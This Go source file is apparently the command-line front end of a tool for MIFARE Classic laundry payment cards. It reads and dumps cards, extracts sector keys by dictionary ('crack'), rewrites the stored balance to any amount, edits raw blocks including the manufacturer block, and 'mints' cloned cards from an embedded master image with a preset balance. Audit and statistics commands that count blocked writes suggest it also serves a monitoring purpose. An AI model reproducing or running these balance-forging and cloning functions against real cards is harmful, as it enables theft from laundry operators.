package main

import (
	"errors"
	"fmt"
	"math"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/sworrl/LaundR/internal/history"
	"github.com/sworrl/LaundR/laundr/internal/config"
	"github.com/sworrl/LaundR/pkg/classic"
	"github.com/sworrl/LaundR/pkg/engine"
)

type app struct {
	cfg      *config.Config
	mode     engine.Mode
	cardPath string
}

func (a *app) dispatch(verb string, args []string) error {
	switch verb {
	case "read":
		return a.runRead()
	case "write":
		return a.runWrite()
	case "balance":
		return a.runBalance(args)
	case "edit":
		return a.runEdit(args)
	case "crack":
		return a.runCrack(args)
	case "mint":
		return a.runMint(args)
	case "audit":
		return a.runAudit(args)
	case "stats":
		return a.runStats(args)
	}
	return fmt.Errorf("unknown command %q", verb)
}

// connectTrial opens the configured reader and builds a trial engine
// over the curated dictionary, extended by the config key file.
func (a *app) connectTrial() (*classic.Connection, *classic.Trial, error) {
	readers, err := classic.ListReaders()
	if err != nil {
		return nil, nil, err
	}
	idx, err := classic.ResolveReader(readers, a.cfg.Reader)
	if err != nil {
		return nil, nil, err
	}
	conn, err := classic.Connect(idx)
	if err != nil {
		return nil, nil, err
	}
	fmt.Printf("Using reader [%d]: %s\n", conn.ReaderIdx, conn.Reader)

	keys := classic.DefaultKeys()
	if a.cfg.Files.KeyFile != "" {
		extra, err := classic.LoadKeyFile(a.cfg.Files.KeyFile)
		if err != nil {
			conn.Close()
			return nil, nil, fmt.Errorf("key file: %w", err)
		}
		keys = classic.DedupeKeys(append(keys, extra...))
	}
	return conn, classic.NewTrial(classic.NewReader(conn), keys), nil
}

func (a *app) runRead() error {
	conn, trial, err := a.connectTrial()
	if err != nil {
		return err
	}
	defer conn.Close()

	fmt.Println("Waiting for card...")
	uid, err := trial.WaitPresent()
	if err != nil {
		return err
	}
	fmt.Printf("Card present, UID %s\n", uidHex(uid))

	img, err := trial.ReadCard()
	if err != nil {
		return err
	}
	classic.PrintSummary(os.Stdout, img)
	fmt.Println()
	classic.PrintImage(os.Stdout, img)

	out := a.cardPath
	if out == "" {
		out = filepath.Join(a.cfg.Files.CardDir, uidHex(uid)+".nfc")
	}
	if err := classic.WriteNFCFile(out, img); err != nil {
		return err
	}
	fmt.Printf("Dump written to %s (%d/%d blocks)\n", out, img.ValidCount(), classic.BlockCount)
	// The fresh dump becomes the current card for follow-up commands.
	a.cardPath = out
	return nil
}

func (a *app) runWrite() error {
	if a.cardPath == "" {
		return errors.New("write needs -card with the image to burn")
	}
	img, err := classic.ReadNFCFile(a.cardPath)
	if err != nil {
		return err
	}

	conn, trial, err := a.connectTrial()
	if err != nil {
		return err
	}
	defer conn.Close()

	fmt.Println("Waiting for target card...")
	uid, err := trial.WaitPresent()
	if err != nil {
		return err
	}
	fmt.Printf("Writing %d blocks to card %s...\n", img.ValidCount(), uidHex(uid))

	written, err := trial.WriteImage(img, false)
	if err != nil {
		if errors.Is(err, classic.ErrAllKeysFailed) {
			fmt.Printf("%d blocks written; some sectors stayed locked against the dictionary\n", written)
			return nil
		}
		return err
	}
	fmt.Printf("%d blocks written\n", written)
	return nil
}

func (a *app) runBalance(args []string) error {
	if a.cardPath == "" {
		return errors.New("balance needs -card with the image to edit")
	}
	if len(args) == 0 {
		return errors.New("usage: balance <dollars>, e.g. balance 12.50")
	}
	cents, err := parseAmount(args[0])
	if err != nil {
		return err
	}

	st, shadow, err := a.loadStore()
	if err != nil {
		return err
	}

	old, known := st.PersistedBalance()
	b := st.Persisted().Blocks[classic.BalanceBlock]
	classic.SetBalance(&b, cents)
	st.ApplyPersistedEdit(classic.BalanceBlock, b)
	// The mirror block is a verbatim copy, address tail included.
	st.ApplyPersistedEdit(classic.MirrorBlock, b)

	if err := classic.WriteShadow(shadow, st); err != nil {
		return err
	}
	st.ClearModifications()

	if known {
		fmt.Printf("Balance %s -> %s\n", classic.FormatCents(old), classic.FormatCents(cents))
	} else {
		fmt.Printf("Balance unknown -> %s\n", classic.FormatCents(cents))
	}
	fmt.Printf("Shadow updated: %s\n", shadow)
	return nil
}

// runEdit stores a raw block edit in the shadow overlay. Any block is
// editable here, trailers and block 0 included; whether a real card
// accepts the bytes is the write command's problem.
func (a *app) runEdit(args []string) error {
	if a.cardPath == "" {
		return errors.New("edit needs -card with the image to edit")
	}
	if len(args) < 2 {
		return errors.New("usage: edit <block> <16 hex bytes>")
	}
	idx, err := strconv.Atoi(args[0])
	if err != nil || idx < 0 || idx >= classic.BlockCount {
		return fmt.Errorf("block must be 0..%d, got %q", classic.BlockCount-1, args[0])
	}
	blk, err := parseBlockHex(strings.Join(args[1:], " "))
	if err != nil {
		return err
	}

	st, shadow, err := a.loadStore()
	if err != nil {
		return err
	}
	old := st.Persisted().Blocks[idx]
	hadOld := st.Persisted().Valid[idx]
	st.ApplyPersistedEdit(idx, blk)
	if err := classic.WriteShadow(shadow, st); err != nil {
		return err
	}
	st.ClearModifications()

	if hadOld {
		fmt.Printf("Block %2d: %s\n", idx, classic.FormatBlock(old))
	} else {
		fmt.Printf("Block %2d: (unknown)\n", idx)
	}
	fmt.Printf("       -> %s\n", classic.FormatBlock(blk))
	fmt.Printf("Shadow updated: %s\n", shadow)
	return nil
}

func (a *app) runCrack(args []string) error {
	sectors := make([]int, classic.SectorCount)
	for i := range sectors {
		sectors[i] = i
	}
	if len(args) > 0 {
		n, err := strconv.Atoi(args[0])
		if err != nil || n < 0 || n >= classic.SectorCount {
			return fmt.Errorf("sector must be 0..%d, got %q", classic.SectorCount-1, args[0])
		}
		sectors = []int{n}
	}

	conn, trial, err := a.connectTrial()
	if err != nil {
		return err
	}
	defer conn.Close()

	fmt.Println("Waiting for card...")
	if _, err := trial.WaitPresent(); err != nil {
		return err
	}
	// The card is in the field now; locked trailers should fail fast
	// instead of burning the presence budget.
	trial.Attempts = 1

	found := 0
	for _, sec := range sectors {
		keyB, opener, err := trial.ExtractTrailerKeyB(sec)
		if err != nil {
			if errors.Is(err, classic.ErrAllKeysFailed) {
				fmt.Printf("sector %2d: locked\n", sec)
				continue
			}
			return err
		}
		fmt.Printf("sector %2d: Key B %s (trailer opened with %s key %c)\n",
			sec, keyB, opener.Key, keyTypeChar(opener.KeyType))
		found++
	}
	fmt.Printf("%d/%d trailers extracted\n", found, len(sectors))
	return nil
}

// masterCounter is the purse counter the CSC master layout ships with.
const masterCounter = 16100

// runMint provisions a present card with the embedded master image.
// Magic gen2 cards take the full image including the manufacturer
// block; on normal cards block 0 stays locked and the rest goes out.
func (a *app) runMint(args []string) error {
	cents := uint16(5000)
	if len(args) > 0 {
		var err error
		if cents, err = parseAmount(args[0]); err != nil {
			return err
		}
	}
	img := classic.MasterImage(cents, masterCounter, uint32(time.Now().UnixMilli()))

	conn, trial, err := a.connectTrial()
	if err != nil {
		return err
	}
	defer conn.Close()

	fmt.Println("Waiting for target card...")
	if _, err := trial.WaitPresent(); err != nil {
		return err
	}
	fmt.Printf("Minting %s %s card, UID %s...\n",
		classic.FormatCents(cents), classic.ProviderCSC, uidHex(img.UID()))

	written, err := trial.WriteImage(img, true)
	if err != nil {
		if errors.Is(err, classic.ErrAllKeysFailed) {
			fmt.Printf("%d blocks written; locked blocks skipped (manufacturer block needs a magic card)\n", written)
			return nil
		}
		return err
	}
	fmt.Printf("%d blocks written\n", written)
	return nil
}

// runAudit replays a recorded shadow trace against the engine in the
// configured mode. The store starts from the original image, so the
// monitor sees every trace write as live reader activity.
func (a *app) runAudit(args []string) error {
	if a.cardPath == "" {
		return errors.New("audit needs -card with the original image")
	}
	img, err := classic.ReadNFCFile(a.cardPath)
	if err != nil {
		return err
	}
	trace := shadowPath(a.cardPath)
	if len(args) > 0 {
		trace = args[0]
	}
	if _, err := os.Stat(trace); err != nil {
		return fmt.Errorf("trace file: %w", err)
	}

	st := classic.NewStore()
	st.LoadOriginal(img)
	lis, err := engine.ReplayFromShadow(st.Original(), trace)
	if err != nil {
		return err
	}
	if len(lis.Writes) == 0 {
		fmt.Println("Trace carries no block changes; nothing to audit.")
		return nil
	}
	fmt.Printf("Replaying %d block writes from %s in %s mode\n", len(lis.Writes), trace, a.mode)

	var hist engine.HistoryRecorder
	if a.cfg.Files.History != "" {
		db, err := history.Open(a.cfg.Files.History)
		if err != nil {
			fmt.Fprintf(os.Stderr, "history unavailable: %v; continuing without it\n", err)
		} else {
			defer db.Close()
			hist = db
		}
	}

	interval := time.Duration(a.cfg.Session.PollMs) * time.Millisecond
	s, err := engine.NewSession(st, engine.Config{
		Listener:   lis,
		Mode:       a.mode,
		Interval:   interval,
		EventCap:   a.cfg.Session.EventCap,
		LedgerPath: a.cfg.Files.Ledger,
		NoncePath:  a.cfg.Files.Nonces,
		History:    hist,
	})
	if err != nil {
		return err
	}
	if err := s.Start(); err != nil {
		return err
	}

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)
	defer signal.Stop(sigCh)

	// One tick per scripted write plus slack to drain the tail.
	budget := time.Duration(len(lis.Writes)+3) * interval
	select {
	case <-time.After(budget):
	case sig := <-sigCh:
		fmt.Printf("\nReceived %v, stopping session\n", sig)
	}
	if err := s.Stop(); err != nil {
		return err
	}

	snap := s.Counters()
	fmt.Println()
	fmt.Printf("Audit complete (%s mode)\n", a.mode)
	fmt.Printf("  %-16s %s", "UID:", uidHex(st.Original().UID()))
	if now := s.UID(); now != st.Original().UID() {
		fmt.Printf(" (rotated to %s)", uidHex(now))
	}
	fmt.Println()
	fmt.Printf("  %-16s %s\n", "Provider:", classic.DetectProvider(st.Persisted()))
	if cents, ok := st.PersistedBalance(); ok {
		fmt.Printf("  %-16s %s\n", "Balance:", classic.FormatCents(cents))
	} else {
		fmt.Printf("  %-16s unknown\n", "Balance:")
	}
	fmt.Printf("  %-16s %d reads, %d writes\n", "Observed:", snap.Reads, snap.Writes)
	fmt.Printf("  %-16s %d\n", "Blocked writes:", snap.BlockedWrites)
	fmt.Printf("  %-16s %d\n", "Transactions:", snap.Transactions)
	if a.mode == engine.ModeInterrogate {
		fmt.Println()
		s.Interrogation().Report(os.Stdout)
	}
	return nil
}

func (a *app) runStats(args []string) error {
	if a.cfg.Files.History == "" {
		return errors.New("history store disabled in config")
	}
	db, err := history.Open(a.cfg.Files.History)
	if err != nil {
		return err
	}
	defer db.Close()

	if len(args) > 0 {
		uid, err := parseUID(args[0])
		if err != nil {
			return err
		}
		stats, ok, err := db.CardStats(uid)
		if err != nil {
			return err
		}
		if !ok {
			fmt.Printf("Card %s has no recorded sessions.\n", uidHex(uid))
			return nil
		}
		fmt.Printf("Card %s\n", uidHex(stats.UID))
		fmt.Printf("  %-14s %s\n", "Provider:", stats.Provider)
		fmt.Printf("  %-14s %s\n", "First seen:", stats.FirstSeen.Format("2006-01-02 15:04:05"))
		fmt.Printf("  %-14s %s\n", "Last seen:", stats.LastSeen.Format("2006-01-02 15:04:05"))
		fmt.Printf("  %-14s %s\n", "Last balance:", classic.FormatCents(stats.LastBalance))
		return nil
	}

	totals, err := db.Totals()
	if err != nil {
		return err
	}
	fmt.Printf("Lifetime: %d sessions, %d transactions, %d blocked writes, %s protected\n",
		totals.Sessions, totals.Transactions, totals.BlockedWrites, formatCents64(totals.CentsProtected))

	recs, err := db.Transactions(10)
	if err != nil {
		return err
	}
	if len(recs) == 0 {
		fmt.Println("No sessions recorded yet.")
		return nil
	}
	fmt.Println("Recent sessions:")
	for _, r := range recs {
		fmt.Printf("  %s  %s  %-11s  %s -> %s  charge %s\n",
			r.When.Format("2006-01-02 15:04:05"),
			uidHex(r.UID),
			r.Mode,
			classic.FormatCents(r.BalanceBefore),
			classic.FormatCents(r.BalanceAfter),
			chargeString(r.Charge))
	}
	return nil
}

// loadStore builds a layered store from -card plus its shadow overlay.
func (a *app) loadStore() (*classic.Store, string, error) {
	img, err := classic.ReadNFCFile(a.cardPath)
	if err != nil {
		return nil, "", err
	}
	st := classic.NewStore()
	st.LoadOriginal(img)
	shadow := shadowPath(a.cardPath)
	if err := classic.ReadShadow(shadow, st); err != nil {
		return nil, "", fmt.Errorf("shadow: %w", err)
	}
	return st, shadow, nil
}

// shadowPath pairs a card image with its modification overlay:
// cards/04CD1289.nfc -> cards/04CD1289.shd.
func shadowPath(cardPath string) string {
	return strings.TrimSuffix(cardPath, filepath.Ext(cardPath)) + ".shd"
}

func parseAmount(s string) (uint16, error) {
	clean := strings.TrimPrefix(strings.TrimSpace(s), "$")
	usd, err := strconv.ParseFloat(clean, 64)
	if err != nil {
		return 0, fmt.Errorf("amount %q: %v", s, err)
	}
	cents := math.Round(usd * 100)
	if cents < 0 || cents > math.MaxUint16 {
		return 0, fmt.Errorf("amount %q out of range ($0.00 .. $655.35)", s)
	}
	return uint16(cents), nil
}

func parseBlockHex(s string) (classic.Block, error) {
	var blk classic.Block
	clean := strings.ReplaceAll(strings.TrimSpace(s), " ", "")
	if len(clean) != 2*classic.BlockSize {
		return blk, fmt.Errorf("block data must be %d hex bytes", classic.BlockSize)
	}
	for i := 0; i < classic.BlockSize; i++ {
		v, err := strconv.ParseUint(clean[i*2:i*2+2], 16, 8)
		if err != nil {
			return blk, fmt.Errorf("block data: %v", err)
		}
		blk[i] = byte(v)
	}
	return blk, nil
}

func parseUID(s string) ([4]byte, error) {
	var uid [4]byte
	clean := strings.ReplaceAll(strings.TrimSpace(s), " ", "")
	if len(clean) != 8 {
		return uid, fmt.Errorf("uid must be 8 hex chars, got %q", s)
	}
	for i := 0; i < 4; i++ {
		v, err := strconv.ParseUint(clean[i*2:i*2+2], 16, 8)
		if err != nil {
			return uid, fmt.Errorf("uid %q: %v", s, err)
		}
		uid[i] = byte(v)
	}
	return uid, nil
}

func uidHex(uid [4]byte) string {
	return fmt.Sprintf("%02X%02X%02X%02X", uid[0], uid[1], uid[2], uid[3])
}

func keyTypeChar(kt byte) byte {
	if kt == classic.KeyTypeB {
		return 'B'
	}
	return 'A'
}

func chargeString(c int16) string {
	if c < 0 {
		return "-" + classic.FormatCents(uint16(-int32(c)))
	}
	return "+" + classic.FormatCents(uint16(c))
}

func formatCents64(cents uint64) string {
	return fmt.Sprintf("$%d.%02d", cents/100, cents%100)
}
